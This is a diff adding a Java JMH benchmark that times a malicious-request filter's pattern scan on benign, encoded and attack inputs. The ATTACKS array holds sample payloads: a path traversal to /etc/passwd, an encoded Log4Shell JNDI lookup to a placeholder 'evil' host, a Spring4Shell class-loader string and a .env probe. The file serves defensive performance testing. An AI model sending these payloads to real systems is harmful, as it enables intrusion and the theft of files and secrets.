@@ -0,0 +1,76 @@
+package com.pmd.security;
+
+import java.util.concurrent.TimeUnit;
+import org.openjdk.jmh.annotations.Benchmark;
+import org.openjdk.jmh.annotations.BenchmarkMode;
+import org.openjdk.jmh.annotations.Fork;
+import org.openjdk.jmh.annotations.Measurement;
+import org.openjdk.jmh.annotations.Mode;
+import org.openjdk.jmh.annotations.OutputTimeUnit;
+import org.openjdk.jmh.annotations.Scope;
+import org.openjdk.jmh.annotations.Setup;
+import org.openjdk.jmh.annotations.State;
+import org.openjdk.jmh.annotations.Warmup;
+import org.openjdk.jmh.infra.Blackhole;
+
+/**
+ * The pattern scan every {@code /api} request pays three times (URI, query string, User-Agent).
+ * Benign inputs scan every pattern; attacks stop at the first hit.
+ */
+@State(Scope.Benchmark)
+@BenchmarkMode(Mode.AverageTime)
+@OutputTimeUnit(TimeUnit.NANOSECONDS)
+@Warmup(iterations = 3, time = 1)
+@Measurement(iterations = 5, time = 1)
+@Fork(1)
+public class MaliciousRequestFilterBenchmark {
+
+    private static final String[] BENIGN = {
+        "/api/workspaces/6650f3a2c1e4b20d9c1a7f21/projects",
+        "status=IN_PROGRESS&teamId=team-3&cursor=2026-02-01T10%3A15%3A00Z%2C6650f3a2c1e4b20d9c1a7f21&limit=50",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
+        "/api/stats/dashboard",
+        "q=maria%20georgiou&includeAdmins=false",
+        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148"
+    };
+    /** Form-encoded and non-ASCII input: the cases that used to pay for a decoded copy. */
+    private static final String[] ENCODED = {
+        "q=caf%C3%A9+au+lait&teamId=team-3&sort=updatedAt%2Cdesc",
+        "message=Pushed+the+fix+for+the+export+job%2C+the+nightly+run+should+pick+it+up.+%40Maria",
+        "name=%CE%95%CE%BB%CE%AD%CE%BD%CE%B7+%CE%93%CE%B5%CF%89%CF%81%CE%B3%CE%AF%CE%BF%CF%85"
+    };
+    private static final String[] ATTACKS = {
+        "/api/../../etc/passwd",
+        "name=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D",
+        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
+        "/api/.env"
+    };
+
+    private MaliciousRequestFilter filter;
+
+    @Setup
+    public void setUp() {
+        filter = new MaliciousRequestFilter(null);
+    }
+
+    @Benchmark
+    public void benign(Blackhole blackhole) {
+        for (String input : BENIGN) {
+            blackhole.consume(filter.containsMaliciousPattern(input));
+        }
+    }
+
+    @Benchmark
+    public void encoded(Blackhole blackhole) {
+        for (String input : ENCODED) {
+            blackhole.consume(filter.containsMaliciousPattern(input));
+        }
+    }
+
+    @Benchmark
+    public void attacks(Blackhole blackhole) {
+        for (String input : ATTACKS) {
+            blackhole.consume(filter.containsMaliciousPattern(input));
+        }
+    }
+}